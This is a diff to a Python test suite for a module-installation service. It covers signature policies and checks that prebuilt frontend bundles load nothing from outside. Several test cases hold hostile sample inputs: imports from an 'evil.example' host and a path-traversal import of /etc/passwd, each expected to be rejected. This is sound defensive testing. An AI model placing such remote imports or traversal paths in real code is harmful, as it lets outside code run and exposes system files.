@@ -2,7 +2,6 @@
 
 import asyncio
 import hashlib
-import json
 import os
 import uuid
 
@@ -13,9 +12,7 @@ from millwright.modules.v1 import module_service_pb2 as pb
 from millwright_local.processes import until
 from millwright_local.testing.refusals import refused
 from millwright_modules.confinement import kernel, process
-from millwright_modules.domain import signing
-from millwright_modules.domain.signing import FileHash
-from module_samples.packages import KEY, archive, files
+from module_samples.packages import archive, files, signed
 from modules_rig.client import MODULE, PIECE_BYTES, package, stage, upload_name
 
 BLOCK = """
@@ -86,7 +83,7 @@ async def test_what_was_installed_is_live(client):
 
 
 async def test_assets_are_served_with_their_hash(client):
-    page = b"export default 'page';\n" * 40_000
+    page = b"// a long page\n" * 60_000
     await client.installed(package(page=page))
     described, data = await client.asset()
     assert data == page
@@ -339,36 +336,78 @@ async def test_a_version_may_be_installed_without_going_live(client):
     assert (await client.GetModule(name=MODULE)).module.active_version == "1.1.0"
 
 
-def signed(key_id="ours", key=KEY, tamper=b""):
-    """A signed package; `tamper` is put into a file afterwards."""
-    contents = files(frontend=None)
-    hashes = {path: FileHash(len(data), hashlib.sha256(data).digest()) for path, data in contents.items()}
-    statement = signing.sign(hashes, key_id, key)
-    contents["src/page.tsx"] += tamper
-    return archive({**contents, signing.FILE: json.dumps(statement).encode()})
-
-
 async def test_a_plant_may_insist_on_signatures(client):
+    contents = files(frontend=None)
+    strange = archive(signed(contents, "theirs"))
     await client.SetSignaturePolicy(policy=pb.SIGNATURE_POLICY_ENFORCE)
-    assert reasons(await client.install(package())) == ["UNSIGNED"]
-    assert reasons(await client.install(signed())) == ["SIGNER_UNKNOWN"]
-    key = {"name": "signingKeys/ours", "public_key": KEY.public_key().public_bytes_raw(), "owner": "us"}
-    await client.AddSigningKey(key=pb.SigningKey(**key))
-    assert reasons(await client.install(signed(tamper=b"!"))) == ["HASH_MISMATCH"]
-    await client.installed(signed())
+    assert reasons(await client.install(archive(contents))) == ["UNSIGNED"]
+    assert reasons(await client.install(strange)) == ["SIGNER_UNKNOWN"]
+    changed = {**signed(contents), "src/page.tsx": b"export default 2;\n"}
+    assert reasons(await client.install(archive(changed))) == ["HASH_MISMATCH"]
+    await client.installed(archive(signed(contents)))
     assert (await client.GetModule(name=MODULE)).version.signer == "ours"
 
 
 async def test_what_is_not_signed_is_warned_of_unless_the_plant_says_otherwise(client):
-    operation = await client.installed(package())
+    operation = await client.installed(archive(files(frontend=None)))
     assert [problem.reason for problem in operation.problems] == ["UNSIGNED"]
     assert [warning.reason for warning in (await client.GetModule(name=MODULE)).version.warnings] == ["UNSIGNED"]
     await client.SetSignaturePolicy(policy=pb.SIGNATURE_POLICY_OFF)
-    assert not (await client.installed(package("1.1.0"))).problems
+    assert not (await client.installed(archive(files(frontend=None, version="1.1.0")))).problems
+
+
+@pytest.mark.parametrize("policy", ["OFF", "WARN", "ENFORCE"])
+async def test_a_frontend_that_was_built_before_needs_a_signature_under_every_policy(policy, client):
+    await client.SetSignaturePolicy(policy=pb.SignaturePolicy.Value(f"SIGNATURE_POLICY_{policy}"))
+    contents = files(frontend={"prebuilt": "dist/page.js"}) | {"dist/page.js": b"export default 1;\n"}
+    operation = await client.install(archive(contents))
+    assert reasons(operation) == ["PREBUILT_UNSIGNED", "UNSIGNED"]
+    assert operation.problems[0].path == "/frontend/prebuilt"
+    assert "frontend.entry" in operation.problems[0].hints["ko"]
+    assert reasons(await client.install(archive(signed(contents, "theirs")))) == ["PREBUILT_UNSIGNED", "SIGNER_UNKNOWN"]
+    await client.installed(archive(signed(contents)))
+
+
+@pytest.mark.parametrize(
+    ("path", "content", "reason", "line"),
+    [
+        ("dist/page.js", b'export default 1;\nimport "https://evil.example/x.js";\n', "IMPORT_UNRESOLVED", 2),
+        ("dist/page.js", b'export default () => import("https://evil.example/x.js");\n', "IMPORT_UNRESOLVED", 1),
+        ("dist/page.js", b'import "../../../../etc/passwd";\n', "IMPORT_FORBIDDEN", 1),
+        ("dist/page.js", b'import _ from "lodash";\nexport default _;\n', "IMPORT_UNRESOLVED", 1),
+        ("dist/lazy/part.mjs", b'import "https://evil.example/x.js";\n', "IMPORT_UNRESOLVED", 1),
+        ("dist/page.css", b".a { background: url(https://evil.example/x.png) }\n", "IMPORT_UNRESOLVED", 1),
+    ],
+)
+async def test_a_frontend_that_was_built_before_loads_nothing_from_elsewhere(
+    path, content, reason, line, client, buildable
+):
+    contents = files(frontend={"prebuilt": "dist/page.js"}) | {"dist/page.js": b"export default 1;\n", path: content}
+    operation = await client.install(archive(signed(contents)))
+    assert reasons(operation) == [reason]
+    assert (operation.problems[0].path, operation.problems[0].line) == (path, line)
+
+
+async def test_a_frontend_that_was_built_before_may_load_its_own_files_and_the_platforms(client, buildable):
+    page = b"""import { useState } from "react";
+import { chart } from "./parts/chart.js";
+import "./page.css";
+export default () => import("./lazy/part.mjs").then(() => useState(chart));
+"""
+    brought = {
+        "dist/page.js": page,
+        "dist/parts/chart.js": b"export const chart = 2;\n",
+        "dist/lazy/part.mjs": b"export default 3;\n",
+        "dist/page.css": b".a { background: url(./logo.png) }\n",
+        "dist/logo.png": b"\x89PNG\r\n\x1a\n",
+    }
+    contents = files(frontend={"prebuilt": "dist/page.js"}) | brought
+    assert not (await client.installed(archive(signed(contents)))).problems
+    assert (await client.asset())[1] == page
 
 
 async def test_upload_and_install_are_one_call(client):
-    data = package(page=os.urandom(3 << 20))
+    data = package(page=b"//" + os.urandom(3 << 19).hex().encode())
     header = pb.UploadAndInstallHeader(
         upload=pb.CreateUploadRequest(digest=hashlib.sha256(data).digest(), total_bytes=len(data)),
         options=pb.InstallOptions(health_time={}),
@@ -378,6 +417,7 @@ async def test_upload_and_install_are_one_call(client):
         pb.UploadAndInstallRequest(data=data[offset : offset + PIECE_BYTES])
         for offset in range(0, len(data), PIECE_BYTES)
     ]
+    await client.trust()
     told = [message async for message in client.stream("UploadAndInstall", parts)]
     assert told[0].upload.received_bytes == 0
     events = [message.event for message in told if message.HasField("event")]
